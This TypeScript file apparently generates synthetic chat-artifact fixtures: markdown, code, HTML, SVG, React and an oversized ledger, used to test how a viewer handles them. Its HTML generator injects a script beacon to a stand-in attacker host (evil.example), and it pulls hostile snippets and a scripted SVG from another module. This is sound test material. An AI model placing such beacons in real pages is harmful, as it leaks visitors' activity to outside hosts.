// Artifacts: one id per artifact, one version id per assistant turn that created or revised
// it. A version's text is a pure function of (chat, slot, version), so metadata md5/size and
// the content endpoint always agree.

import { ChatKind, FLAG_ARTIFACTS, FLAG_SOFT_DELETED, type ChatTable } from "./chats";
import { HOSTILE_ARTIFACT_TITLE, HOSTILE_SNIPPETS, SCRIPTED_SVG_ARTIFACT } from "./hostile";
import { type IdCodec, Kind, PREFIX } from "./ids";
import { hashInts, pickBy } from "./prng";

export interface ArtifactSlot {
  slot: number;
  type: string;
  title: string | null;
  /** Message indices (assistant turns) that produced each version, in order. */
  versionsAt: readonly number[];
  /** Text of its own instead of its type's usual text. */
  content?: "scripted_svg" | "large_code";
}

export const ARTIFACT_TYPES = ["text/markdown", "application/vnd.ant.code", "text/html", "image/svg+xml", "application/vnd.ant.react"] as const;

const SHOWCASE: readonly ArtifactSlot[] = [
  { slot: 0, type: "text/markdown", title: "Launch Plan", versionsAt: [1, 3, 5] },
  { slot: 1, type: "application/vnd.ant.code", title: "pricing.py", versionsAt: [1, 5] },
  { slot: 2, type: "text/html", title: "Landing page", versionsAt: [3, 7] },
  { slot: 3, type: "image/svg+xml", title: "Logo concept", versionsAt: [5] },
  { slot: 4, type: "application/vnd.ant.react", title: "PricingTable.jsx", versionsAt: [7, 9] },
];

/** The preview corpus chat's artifacts: an SVG that tries to run, and code too long to highlight or diff whole. */
const CORPUS: readonly ArtifactSlot[] = [
  { slot: 0, type: "image/svg+xml", title: "Approval stamp", versionsAt: [1], content: "scripted_svg" },
  { slot: 1, type: "application/vnd.ant.code", title: "ledger_export.py", versionsAt: [3, 5], content: "large_code" },
];

const GENERIC_TITLES: Readonly<Record<string, string>> = {
  "text/markdown": "Meeting summary",
  "application/vnd.ant.code": "script.py",
  "text/html": "Status page",
  "image/svg+xml": "Diagram",
  "application/vnd.ant.react": "Dashboard.jsx",
};

export function artifactSlots(t: ChatTable, seed: number, ci: number): readonly ArtifactSlot[] {
  if (t.flags[ci]! & FLAG_SOFT_DELETED) return [];
  const kind = t.kind[ci] as ChatKind;
  if (kind === ChatKind.Artifacts) return SHOWCASE;
  if (kind === ChatKind.Corpus) return CORPUS;
  if (kind === ChatKind.Hostile) return [{ slot: 0, type: "text/html", title: HOSTILE_ARTIFACT_TITLE, versionsAt: [5] }];
  if (kind !== ChatKind.Generic || !(t.flags[ci]! & FLAG_ARTIFACTS)) return [];
  const n = t.messageCount[ci]!;
  const type = pickBy(ARTIFACT_TYPES, hashInts(seed, 0xa47, ci));
  const versionsAt = [1, 3, 5].filter((i) => i < n);
  if (versionsAt.length === 0) return [];
  // Some older artifacts were stored without a title.
  const title = hashInts(seed, 0xa48, ci) % 10 === 0 ? null : GENERIC_TITLES[type]!;
  return [{ slot: 0, type, title, versionsAt }];
}

export function artifactId(ids: IdCodec, ci: number, slot: number): string {
  return ids.tagged(PREFIX.artifact, Kind.Artifact, ci, slot);
}

export function artifactVersionId(ids: IdCodec, ci: number, slot: number, messageIndex: number): string {
  return ids.tagged(PREFIX.artifactVersion, Kind.ArtifactVersion, ci, slot, messageIndex);
}

/** Rows of the large code artifact: over 5,000 lines and 2 MiB, more than a view highlights or diffs whole. */
export const LARGE_CODE_ROWS = 30_000;

/** Version 2 corrects the amount of every row whose number is a multiple of this, and adds a total. */
const LARGE_CODE_CORRECTED_EVERY = 5_000;

function largeCode(version: number): string {
  const lines = [`# ledger_export.py: generated ledger rows (version ${version})`, "", "LEDGER = ["];
  for (let row = 1; row <= LARGE_CODE_ROWS; row++) {
    const cents = (row * 7919) % 1_000_000;
    const amount = version >= 2 && row % LARGE_CODE_CORRECTED_EVERY === 0 ? cents + 1 : cents;
    lines.push(`    {"row": ${row}, "account": "ACC-${String(row % 9973).padStart(6, "0")}", "amount_cents": ${amount}, "currency": "EUR"},`);
  }
  lines.push("]");
  if (version >= 2) lines.push("", "", "def total() -> int:", '    return sum(entry["amount_cents"] for entry in LEDGER)');
  return lines.join("\n") + "\n";
}

export function artifactText(type: string, version: number, hostile: boolean, h: number, content?: ArtifactSlot["content"]): string {
  if (content === "scripted_svg") return SCRIPTED_SVG_ARTIFACT;
  if (content === "large_code") return largeCode(version);
  switch (type) {
    case "text/markdown": {
      const parts = ["# Launch Plan", "", "## Goals", "", "- Ship the reviewer console", "- Reduce review time by **30%**"];
      if (version >= 2) parts.push("", "## Timeline", "", "| Phase | Date |", "|---|---|", "| Beta | 2026-05-01 |", "| GA | 2026-07-15 |");
      if (version >= 3) parts.push("", "## Risks", "", "1. Legal review capacity", "2. SSO rollout — see [runbook](https://wiki.acme.internal/sso)");
      return parts.join("\n") + "\n";
    }
    case "application/vnd.ant.code": {
      const lines = ['def price(seats: int, tier: str = "team") -> float:', '    base = {"team": 25.0, "enterprise": 60.0}[tier]', "    return seats * base"];
      if (version >= 2)
        lines.push(
          "",
          "",
          "def discount(total: float, seats: int) -> float:",
          "    # volume discount above 100 seats",
          "    return total * (0.85 if seats > 100 else 1.0)",
        );
      return lines.join("\n") + "\n";
    }
    case "text/html": {
      const script = version >= 2 || hostile ? `\n<script>document.title = "v${version}"; fetch("https://evil.example/beacon");</script>` : "";
      const extra = hostile ? `\n${HOSTILE_SNIPPETS[1]}\n${HOSTILE_SNIPPETS[7]}` : "";
      return `<!doctype html>\n<html lang="en">\n<head><meta charset="utf-8"><title>Acme</title><style>body{font-family:sans-serif}</style></head>\n<body>\n<h1>Acme launch ${version}</h1>\n<p>Ship faster with <a href="https://acme.example">Acme</a>.</p>${script}${extra}\n</body>\n</html>\n`;
    }
    case "image/svg+xml":
      return `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="120" viewBox="0 0 120 120"><rect width="120" height="120" rx="24" fill="#${(h & 0xffffff).toString(16).padStart(6, "0")}"/><text x="60" y="72" font-size="40" text-anchor="middle" fill="#fff">A${version}</text></svg>\n`;
    default: {
      const state = version >= 2 ? "\n  const [seats, setSeats] = useState(10);" : "\n  const seats = 10;";
      return `import { useState } from "react";\n\nexport default function PricingTable() {${state}\n  return (\n    <table className="pricing">\n      <tbody>\n        <tr><td>Seats</td><td>{seats}</td></tr>\n        <tr><td>Total</td><td>\${seats * 25}</td></tr>\n      </tbody>\n    </table>\n  );\n}\n`;
    }
  }
}
